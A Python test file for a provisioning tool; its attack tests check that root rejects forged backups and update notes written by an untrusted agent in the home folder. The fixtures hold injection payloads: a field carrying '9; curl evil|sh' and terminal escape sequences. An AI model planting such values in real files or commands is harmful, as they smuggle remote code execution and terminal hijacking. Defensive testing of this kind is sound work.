"""Notes and backups in the home, written by the agent: what root does after reading them stays right."""

from __future__ import annotations

import pytest

from provisioning.errors import PhaseFailed
from tests.attacks.attack import Scene, attack
from tests.e2e.phase_guest import backups_plan

STACK = "/home/hermes/.hermes-stack"
FORGED = "20990101T000000Z-evil"
BACKUP = f"""
import json, os
folder = "{STACK}/backups/{FORGED}"
os.makedirs(folder + "/data")
whole = {{"format": 1, "name": "{FORGED}", "version": "9", "partial": False, "created": "", "bytes": 0, "files": {{}}}}
json.dump({{**whole, "reason": "x\\n\\x1b]0;y\\x07"}}, open(folder + "/manifest.json", "w"))
os.makedirs("{STACK}/backups/20980101T000000Z-evil")
json.dump({{"format": 1}}, open("{STACK}/backups/20980101T000000Z-evil/manifest.json", "w"))
os.unlink("/home/hermes/.hermes-stack-backups.json")
open("/home/hermes/.hermes-stack-backups.json", "w").write(json.dumps({{"{FORGED}": "0" * 64}}))
"""
NOTE = f"""
import json
note = {{"backup": "{FORGED}", "from": "9; curl evil|sh", "to": "/opt/hermes/9\\x1b]0;y\\x07", "stage": "started"}}
json.dump(note, open("{STACK}/update.json", "w"))
"""


def runs(scene: Scene) -> bool:
    return scene.root("systemctl is-active hermes-gateway.service").strip() == "active"


@attack("bare-metal")
def a_forged_backup(scene: Scene) -> None:
    """`restore latest` takes the newest that the stack made, and no manifest ends in a traceback."""
    made = scene.guest.run(backups_plan("make"))
    scene.undo(f"rm -rf {STACK}/backups/{FORGED} {STACK}/backups/20980101T000000Z-evil")
    scene.agent_program(BACKUP)
    listed = scene.guest.run(backups_plan("list"))["backups"]
    assert isinstance(listed, list)
    standing = {each["name"]: each["standing"] for each in listed}
    assert standing[FORGED] == "foreign"
    assert standing[made["name"]] == "ours"
    with pytest.raises(PhaseFailed, match="not one that the stack made"):
        scene.guest.run(backups_plan("restore", FORGED))
    assert runs(scene)
    assert scene.guest.run(backups_plan("restore", "latest"))["restored"] == made["name"]
    scene.proved()


@attack("bare-metal")
def a_forged_note_of_an_update(scene: Scene) -> None:
    """It stops nothing; the text names it, and what is to be done, and nothing of its words stands in a command."""
    scene.undo(f"rm -rf {STACK}/update.json")
    scene.agent_program(NOTE)
    with pytest.raises(PhaseFailed) as refused:
        scene.guest.run(scene.guest.configure())
    text = str(refused.value)
    assert f"runuser -u hermes -- rm {STACK}/update.json" in text
    assert "\x1b" not in text
    assert "curl" not in text
    assert runs(scene)
    scene.root(f"rm {STACK}/update.json; runuser -u hermes -- mkfifo {STACK}/update.json")
    with pytest.raises(PhaseFailed, match="can't be read as a plain file"):
        scene.guest.run(scene.guest.configure())
    assert runs(scene)
    scene.root(f"rm {STACK}/update.json")
    scene.guest.run(scene.guest.configure())
    scene.proved()
